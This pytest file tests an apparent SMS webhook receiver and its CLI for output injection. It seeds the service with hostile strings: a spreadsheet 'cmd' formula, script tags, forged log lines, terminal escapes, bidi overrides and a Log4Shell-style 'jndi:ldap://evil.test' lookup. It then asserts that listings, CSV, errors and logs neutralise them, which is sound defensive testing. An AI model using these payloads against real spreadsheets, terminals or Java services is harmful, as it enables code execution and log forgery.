"""What strangers write, in everything that comes out: no command, no forged line, no escape."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests import stored
from tests.cli.program import Result, on_terminal, run
from tests.harness import (
    TOKEN,
    Running,
    delivery,
    hook,
    inbound,
    request,
    serve,
    subscription,
    until,
    with_plugin,
)

#: A script, a line of a log, a terminal's title and colour, right to left, and what a spreadsheet
#: would run; each begins a text once.
FORGED = '\r\n{"event": "listening", "port": 1, "level": "info"}\r\n'
EVIL = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "<script>alert(1)</script>",
    f"x{FORGED}",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\x7f\x00",
    "\u202egnp.exe\u2066\u200b\u2028\x85",
    "[bold red]markup[/bold red] [link=http://evil.test]x[/link]",
    "%s %d {0} {{7*7}} ${jndi:ldap://evil.test}",
)
PERSON = "254711000001"

FAILING = """
from receiver.handlers import OptOut, Send, Subscribe, on_message

@on_message(inline=True)
def fails(event, context):
    raise ValueError(event.data.text)

@on_message()
async def fails_later(event, context):
    raise RuntimeError(event.data.text)
"""


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A service that strangers and providers have told everything in `EVIL`, wherever it fits."""
    raw = with_plugin(FAILING, "opt_out", "subscriptions", "keyword_reply")
    raw["server"] = {"port": 0, "admin": ""}
    raw["plugins"]["keyword_reply"] = {"rules": [{"keyword": "GAME", "reply": "{{ rest }}"}]}
    with serve(tmp_path_factory.mktemp("outputs"), raw) as running:
        for n, evil in enumerate(EVIL):
            tell(running, n, evil)
        until(lambda: sum(job.attempts == 1 for job in stored.jobs(running.store)) > 20, "run")
        yield running


def tell(service: Running, n: int, evil: str) -> None:
    """Has every provider and a stranger say it in every field that takes a text."""
    everywhere: dict[str, Any] = dict.fromkeys(
        ("shortcode", "service_id", "network_name", "link_id", "keyword"), evil
    )
    pushes = [
        ("tilil", inbound(f"{evil}{n}", evil, **everywhere)),
        ("tilil", inbound(f"stop{n}", f"STOPP {evil}", mobile=PERSON)),
        ("tilil", inbound(f"game{n}", f"GAME {evil}", mobile=PERSON)),
        ("tilil", inbound(f"no person {n}", evil, mobile=evil)),
        (
            "tilil",
            subscription(
                "activation",
                f"202611201200{n:02}",
                **{**everywhere, "subscriber_ref": evil, "service_id": f"{evil}{n}"},
            ),
        ),
        ("tilil", delivery(f"{evil}{n}", 3, dlrDesc=evil, network=evil)),
        (
            "talkntalk",
            json.dumps({"event": evil, "data": {"id": n, "status": evil, "mobile": evil}}).encode(),
        ),
        ("tsconect", json.dumps({"message_id": f"{n}{evil}", "status": evil, "to": evil}).encode()),
    ]
    for source, body in pushes:
        assert service.post(body, hook(source)).status in (200, 400)
    assert service.post(inbound(evil, evil, api_token=evil)).status == 401
    header = re.sub(r"[\r\n\0]", " ", evil).encode("utf-8", "replace")
    with service.wire() as wire:
        head, _, body = request("POST", hook("tilil"), b"{" + evil.encode()).partition(b"\r\n\r\n")
        wire.send(head + b"\r\nX-Evil: " + header + b"\r\n\r\n" + body)
        assert wire.answer().status == 400


LISTS = (
    ["events"],
    ["events", "--raw"],
    ["events", "--type", "sms.delivery.updated"],
    ["events", "--noted"],
    ["events", "--follow", "--since", "1h", "--limit", "30"],
    ["subscribers"],
    ["subscribers", "--history"],
    ["opt-outs"],
    ["opt-outs", "history"],
    ["opt-outs", "near-misses"],
    ["messages"],
    ["quarantine"],
    ["jobs"],
    ["replay"],
)


def details(service: Running) -> Iterator[list[str]]:
    """Commands that show one thing, for each that there is."""
    for line in run(service.folder, "events", "--json", "--limit", "200").stdout.splitlines()[::7]:
        yield ["events", json.loads(line)["id"], "--raw"]
    for line in run(service.folder, "quarantine", "--json").stdout.splitlines()[::5]:
        yield ["quarantine", str(json.loads(line)["id"])]


def harmless(shown: str) -> None:
    """Fails for a character that does something to a terminal or ends a line that is none."""
    bad = {char for char in shown if unicodedata.category(char) in {"Cc", "Cs", "Zl", "Zp"}}
    assert bad <= {"\n"}, shown
    assert not set("\u202e\u2066\u200b") & set(shown)


@pytest.mark.parametrize("command", LISTS, ids=" ".join)
def test_lists_are_harmless(service: Running, command: list[str]) -> None:
    """As a table and as lines of JSON, into a file: one thing a line, every character seen."""
    table = run(service.folder, *command)
    assert table.returncode == 0, table.stderr
    harmless(table.stdout + table.stderr)
    lines = run(service.folder, *command, "--json").stdout
    harmless(lines)
    assert all(isinstance(json.loads(line), dict) for line in lines.splitlines())
    assert FORGED.strip() not in lines.splitlines()


@pytest.mark.parametrize("command", LISTS, ids=" ".join)
def test_terminals_get_no_escapes(service: Running, command: list[str]) -> None:
    """But for those that are ours: colours, and the bar of `replay`."""
    shown = on_terminal(service.folder, *command)
    assert not [escape for escape in ("\x1b]", "\x1b[2J", "\x1b[31mred", "\x9b") if escape in shown]
    harmless(re.sub(r"\x1b\[[0-9;?]*[a-zA-Z]|\r", "", shown))


def test_details_are_harmless(service: Running) -> None:
    """An event with its raw request, and a request in the quarantine, credential included."""
    shown = list(details(service))
    assert len(shown) > 15
    for command in shown:
        result = run(service.folder, *command)
        assert result.returncode == 0
        harmless(result.stdout + result.stderr)


@pytest.mark.parametrize("command", [["subscribers"], ["subscribers", "--history"]], ids=" ".join)
def test_cells_of_csv_are_no_formulas(service: Running, command: list[str]) -> None:
    """What a spreadsheet would run is a text in it; a number in E.164 is only a number."""
    printed = run(service.folder, *command, "--csv").stdout
    rows = list(csv.reader(io.StringIO(printed)))
    assert len(rows) > len(EVIL)
    cells = [cell for row in rows for cell in row if not re.fullmatch(r"\+[0-9]{1,15}", cell)]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n")]
    assert any("=cmd|" in cell for cell in cells)


def test_the_log_is_one_event_a_line(service: Running) -> None:
    """No line is forged, and none holds a text, a number or a credential."""
    lines = service.log.splitlines()
    assert len([line for line in lines if json.loads(line)["event"] == "listening"]) == 1
    assert '"handler failed"' in service.log
    assert re.fullmatch(r"[ -~\n]*", service.log)
    for secret in ("calc", "alert(1)", "evil.test", PERSON, TOKEN):
        assert secret not in service.log


@pytest.mark.parametrize("evil", EVIL)
def test_errors_that_repeat_input_are_harmless(service: Running, evil: str) -> None:
    """What a person pasted into a command stands in its error with every character seen."""
    if "\0" in evil:
        evil = evil.replace("\0", "")
    commands = [
        ["events", f"x{evil}"],
        ["events", "--since", f"x{evil}"],
        ["events", "--msisdn", f"x{evil}"],
        ["events", "--type", f"x{evil}"],
        ["events", "--source", f"x{evil}"],
        ["quarantine", "retry", f"x{evil}"],
        ["jobs", "--state", f"x{evil}"],
        ["send", "--source", f"x{evil}", "--to", f"x{evil}", "--text", f"x{evil}"],
        ["opt-outs", "add", f"x{evil}"],
        ["explain", f"x{evil}", "--to", f"x{evil}"],
        ["simulate", f"x{evil}", f"x{evil}"],
        ["call", f"x{evil}", f"x{evil}"],
        ["check", "--config", f"x{evil}.toml"],
        [f"x{evil}"],
    ]
    for command in commands:
        result: Result = run(service.folder, *command)
        harmless(result.stdout + result.stderr)


def test_errors_about_the_configuration_are_harmless(tmp_path: Path) -> None:
    """Keys and values in it are a person's own, and may have been pasted."""
    file = tmp_path / "receiver.toml"
    for evil in EVIL:
        quoted = json.dumps(evil)
        file.write_text(
            f"[server]\nhost = {quoted}\n{quoted} = 1\nadmin = {quoted}\n"
            f"trusted_proxies = [{quoted}]\n"
            f"[sources.{quoted}]\nprovider = {quoted}\ntimezone = {quoted}\nregion = {quoted}\n"
            f"[plugins]\nenabled = [{quoted}]\n[plugins.{quoted}]\nx = 1\n"
        )
        result = run(tmp_path, "check")
        assert result.returncode == 2
        harmless(result.stdout + result.stderr)
    harmless(run(tmp_path, "serve").stderr)
